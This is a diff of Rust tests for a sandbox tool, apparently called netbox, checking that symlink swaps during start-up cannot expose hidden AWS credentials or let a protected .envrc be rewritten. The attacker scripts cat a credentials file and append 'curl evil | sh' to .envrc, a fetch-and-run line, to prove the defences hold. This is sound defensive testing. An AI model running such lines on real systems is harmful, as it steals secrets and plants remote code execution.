@@ -164,12 +164,17 @@ fn a_workspace_swapped_during_start_up_is_never_mounted() {
     assert!(run.workspace.join("ran").exists());
 }
 
-/// A hidden directory's parent swapped for a symlink to a decoy: before, the cover went on
-/// the decoy and CMD read the real secret by its moved name.
+/// A hidden directory, or its parent, swapped for a symlink to a decoy: before, the cover
+/// went on the decoy (or on the link itself) and CMD read the real secret by its moved
+/// name.
 #[test]
 fn a_hidden_path_swapped_during_start_up_stops_the_run() {
     TestDir::remove_leftovers_outside_tmp("swap-hide");
-    for swap in [Swap::None, Swap::Symlink] {
+    for (swap, swapped) in [
+        (Swap::None, "home"),
+        (Swap::Symlink, "home"),
+        (Swap::Symlink, "home/.aws"),
+    ] {
         let dir = TestDir::outside_tmp("swap-hide");
         let home = dir.join("home");
         std::fs::create_dir_all(home.join(".aws")).unwrap();
@@ -182,29 +187,83 @@ fn a_hidden_path_swapped_during_start_up_stops_the_run() {
             .arg("--quiet")
             .arg("--hide")
             .arg(hidden.to_str().unwrap());
+        let (from, to, moved_secret) = match swapped {
+            "home" => (home.clone(), decoy.clone(), "home.orig/.aws/credentials"),
+            _ => (
+                hidden.clone(),
+                decoy.join(".aws"),
+                "home/.aws.orig/credentials",
+            ),
+        };
         let script = format!(
-            "cat {home}.orig/.aws/credentials {home}/.aws/credentials 2>/dev/null; echo done",
-            home = home.display()
+            "cat {moved} {hidden}/credentials 2>/dev/null; echo done",
+            moved = dir.join(moved_secret).display(),
+            hidden = hidden.display()
         );
-        let out = run_during_swap(&run, &script, swap, &home, &decoy);
-        assert!(
-            !stdout(&out).contains("SECRET"),
-            "{swap:?}: {}",
-            stdout(&out)
-        );
+        let out = run_during_swap(&run, &script, swap, &from, &to);
+        let case = format!("{swap:?} {swapped}: {}{}", stdout(&out), stderr(&out));
+        assert!(!stdout(&out).contains("SECRET"), "{case}");
         match swap {
             Swap::None => {
-                assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+                assert_eq!(out.status.code(), Some(0), "{case}");
                 assert_eq!(stdout(&out), "done\n");
             }
             _ => {
-                assert_eq!(out.status.code(), Some(125), "{swap:?}: {}", stderr(&out));
+                assert_eq!(out.status.code(), Some(125), "{case}");
                 assert!(
                     stderr(&out).contains("changed while netbox was starting"),
-                    "{}",
-                    stderr(&out)
+                    "{case}"
                 );
                 assert_eq!(stdout(&out), "");
+            }
+        }
+    }
+}
+
+/// A protected file swapped for a symlink: before, the pin went on the link and CMD
+/// rewrote the real file by its moved name.
+#[test]
+fn a_protected_file_swapped_for_a_symlink_stops_the_run() {
+    TestDir::remove_leftovers_outside_tmp("swap-pin");
+    for swap in [Swap::None, Swap::Symlink] {
+        // Outside /tmp: the decoy must be visible (read-only) inside, as a user's own
+        // file elsewhere would be.
+        let dir = TestDir::outside_tmp("swap-pin");
+        let run = Run::new(&dir).arg("--quiet");
+        let envrc = run.workspace.join(".envrc");
+        std::fs::write(&envrc, "export OK=1\n").unwrap();
+        let decoy = dir.join("decoy.txt");
+        std::fs::write(&decoy, "decoy\n").unwrap();
+        let out = run_during_swap(
+            &run,
+            "echo 'curl evil | sh' >> .envrc.orig 2>/dev/null; \
+             echo 'curl evil | sh' >> .envrc 2>/dev/null; echo done",
+            swap,
+            &envrc,
+            &decoy,
+        );
+        let case = format!("{swap:?}: {}", stderr(&out));
+        let original = match swap {
+            Swap::None => envrc.clone(),
+            _ => run.workspace.join(".envrc.orig"),
+        };
+        assert_eq!(
+            std::fs::read_to_string(&original).unwrap(),
+            "export OK=1\n",
+            "{case}"
+        );
+        assert_eq!(std::fs::read_to_string(&decoy).unwrap(), "decoy\n");
+        match swap {
+            Swap::None => {
+                assert_eq!(out.status.code(), Some(0), "{case}");
+                assert_eq!(stdout(&out), "done\n");
+            }
+            _ => {
+                assert_eq!(out.status.code(), Some(125), "{case}");
+                assert!(
+                    stderr(&out).contains("a symlink now stands in its path"),
+                    "{case}"
+                );
             }
         }
     }
